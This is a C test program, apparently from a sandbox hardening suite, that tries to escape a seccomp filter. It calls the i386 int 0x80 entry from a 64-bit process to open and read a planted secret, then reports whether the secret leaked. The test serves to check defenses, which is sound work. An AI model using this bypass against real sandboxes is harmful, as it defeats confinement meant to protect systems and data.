/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Attack 11: the i386 system call entry from a 64-bit program. `int $0x80`
 * takes the 32-bit table (open is 5, read is 3), where a filter written
 * for x86_64 numbers means nothing: seccomp_data.arch is AUDIT_ARCH_I386.
 * A forked child opens and reads the secret that way (the name and buffer
 * below 4 GiB, MAP_32BIT) and passes what it read to the parent. The
 * sandbox must refuse the foreign architecture (fbac kills the process).
 */
#include <signal.h>
#include <sys/mman.h>
#include <sys/wait.h>

#include "escape-common.h"

static long int80(long nr, long a, long b, long c)
{
	long ret;

	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(nr), "b"(a), "c"(b), "d"(c)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}

int main(void)
{
	int pfd[2], st;
	char *low;
	pid_t pid;
	char buf[512];
	ssize_t n;

	esc_init("int80", "i386 int 0x80 open/read of the secret from a 64-bit program");
	low = mmap(NULL, 8192, PROT_READ | PROT_WRITE,
		   MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (low == MAP_FAILED || (unsigned long)low >= 0xffffffffUL)
		esc_setup_error("no memory below 4 GiB: %m");
	esc_fmt(low, 4096, "%s", esc_secret);
	if (pipe(pfd) < 0)
		esc_setup_error("pipe: %m");
	pid = fork();
	if (pid < 0)
		esc_setup_error("fork: %m");
	if (pid == 0) {
		long fd, r;

		close(pfd[0]);
		/* getpid (20) first: does the i386 entry exist at all? */
		r = int80(20, 0, 0, 0);
		esc_out("[int80] child: i386 getpid returned %ld\n", r);
		fd = int80(5, (long)low, O_RDONLY, 0);
		if (fd < 0) {
			esc_out("[int80] child: i386 open: %s\n",
				strerror((int)-fd));
			_exit(3);
		}
		r = int80(3, fd, (long)(low + 4096), 512);
		if (r > 0)
			(void)!write(pfd[1], low + 4096, (size_t)r);
		_exit(r > 0 ? 0 : 4);
	}
	close(pfd[1]);
	n = read(pfd[0], buf, sizeof(buf));
	if (waitpid(pid, &st, 0) != pid)
		esc_setup_error("waitpid: %m");
	if (WIFSIGNALED(st))
		esc_say("the child was killed by signal %d (%s) (held)",
			WTERMSIG(st), strsignal(WTERMSIG(st)));
	else
		esc_say("the child exited with %d", WEXITSTATUS(st));
	if (esc_is_stolen(buf, n))
		esc_leak("int 0x80 open+read", buf, n);
	return esc_finish();
}
